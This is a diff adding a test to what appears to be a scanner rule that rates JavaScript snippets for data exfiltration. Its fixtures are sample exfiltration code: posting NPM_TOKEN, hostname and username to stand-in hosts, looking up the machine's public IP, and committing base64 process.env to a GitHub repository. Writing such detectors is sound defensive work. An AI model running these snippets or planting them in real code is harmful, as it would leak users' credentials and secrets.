@@ -572,3 +572,12 @@ test('what a library of chats hears, and folders that are copied to a server', (
   assert.equal(severity(ftp('path.join(os.homedir(), "Documents")')), 'high');
   for (const path of ['"dist"', 'path.join(os.homedir(), "site", "out")', 'process.argv[2]']) assert.equal(severity(ftp(path)), 'nothing', path);
 });
+
+test('a key beside the names of the computer, an address of its own, and all variables in a repository', () => {
+  const severity = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
+  assert.equal(severity('const os = require("os"); fetch("https://q.example/r", { method: "POST", body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username, t: process.env.NPM_TOKEN }) })'), 'high');
+  const found = (address: string) => `const os = require("os"); const { ip } = await (await fetch("${address}")).json(); await fetch("https://t.example/i", { method: "POST", body: JSON.stringify({ ip, u: os.userInfo().username }) })`;
+  assert.deepEqual(['https://ipinfo.io/json', 'https://api.ipify.org/?format=json', 'https://api.weather.example/here'].map((address) => severity(found(address))), ['high', 'high', 'low']);
+  const kept = (content: string) => `const { Octokit } = require("@octokit/rest"); const o = new Octokit({ auth: token }); await o.repos.createOrUpdateFileContents({ owner, repo, path: "data.json", content: ${content} })`;
+  assert.deepEqual(['Buffer.from(JSON.stringify(process.env)).toString("base64")', 'text'].map((content) => severity(kept(content))), ['critical', 'nothing']);
+});
